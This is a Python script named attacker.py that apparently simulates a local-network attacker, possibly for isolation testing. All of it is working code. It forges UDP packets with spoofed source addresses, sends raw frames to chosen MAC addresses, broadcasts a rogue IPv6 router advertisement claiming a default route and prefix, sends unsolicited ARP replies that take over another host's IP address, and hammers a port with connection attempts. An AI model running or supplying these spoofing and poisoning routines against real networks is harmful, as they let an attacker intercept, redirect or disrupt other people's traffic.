"""What an attacker sends, run as a program in his seat: frames and packets that no honest stack would make.

python attacker.py frame LINK MAC SOURCE DESTINATION PORT    a UDP datagram in a frame for MAC
python attacker.py packet SOURCE DESTINATION PORT            a UDP datagram with a source of one's choice
python attacker.py advertise LINK PREFIX                     an IPv6 router advertisement for everybody
python attacker.py claim LINK ADDRESS                        an ARP answer that nobody asked for
python attacker.py hammer ADDRESS PORT SECONDS               connect until it answers; print what came of it
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Sequence
from ipaddress import ip_address, ip_network

EVERYBODY = b"\xff" * 6
ALL_NODES = ip_address("ff02::1")


def checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071)."""
    padded = data + bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source: str, destination: str, port: int) -> bytes:
    """Return an IPv4 packet with a UDP datagram."""
    udp = struct.pack("!HHHH", 5555, port, 9, 0) + b"!"
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, socket.IPPROTO_UDP, 0) + addresses
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + udp


def own_mac(link: str) -> bytes:
    """Return the MAC address of a link."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((link, 0))
        return bytes(wire.getsockname()[4])


def send(link: str, frame: bytes) -> None:
    """Put a frame on the wire."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((link, 0))
        wire.send(frame)


def frame(link: str, mac: str, source: str, destination: str, port: str) -> None:
    """Send a datagram to a MAC address, whatever its IP destination is."""
    target = bytes.fromhex(mac.replace(":", ""))
    send(link, target + own_mac(link) + b"\x08\x00" + datagram(source, destination, int(port)))


def packet(source: str, destination: str, port: str) -> None:
    """Send a datagram by the routes of this place, with a source that may be somebody else's."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.sendto(datagram(source, destination, int(port)), (destination, 0))


def advertise(link: str, prefix: str) -> None:
    """Say that this link leads everywhere, and that everybody has an address in `prefix` (RFC 4861, 4.2)."""
    mac = own_mac(link)
    source = ip_address(b"\xfe\x80" + bytes(6) + mac[:3] + b"\xff\xfe" + mac[3:]).packed
    network = ip_network(prefix)
    information = struct.pack("!BBBBIII", 3, 4, network.prefixlen, 0xC0, 9000, 9000, 0)
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 9000, 0, 0) + information
    body += network.network_address.packed
    pseudo = source + ALL_NODES.packed + struct.pack("!IHBB", len(body), 0, 0, 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + ALL_NODES.packed
    send(link, b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + header + body)


def claim(link: str, address: str) -> None:
    """Tell everybody on the wire that `address` is here (RFC 826)."""
    mac, stolen = own_mac(link), socket.inet_aton(address)
    answer = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + stolen + EVERYBODY + stolen
    send(link, EVERYBODY + mac + b"\x08\x06" + answer)


def hammer(address: str, port: str, seconds: str) -> None:
    """Connect again and again until something answers; print each outcome and how often it was seen."""
    seen: Counter[str] = Counter()
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end and not seen["answered"]:
        seen[outcome(address, int(port))] += 1
    print(*(f"{name}={count}" for name, count in sorted(seen.items())))


def outcome(address: str, port: int) -> str:
    """Return what a client gets: refused, silence, an answer, or a connection that says nothing."""
    try:
        with socket.create_connection((address, port), 0.3) as client:
            client.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return "answered" if client.recv(1) else "cut"
    except TimeoutError:
        return "silence"
    except ConnectionRefusedError:
        return "refused"
    except ConnectionError:
        return "cut"


def main(verb: str, arguments: Sequence[str]) -> None:
    """Do what the command line says."""
    verbs = {
        "frame": frame,
        "packet": packet,
        "advertise": advertise,
        "claim": claim,
        "hammer": hammer,
    }
    verbs[verb](*arguments)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2:])
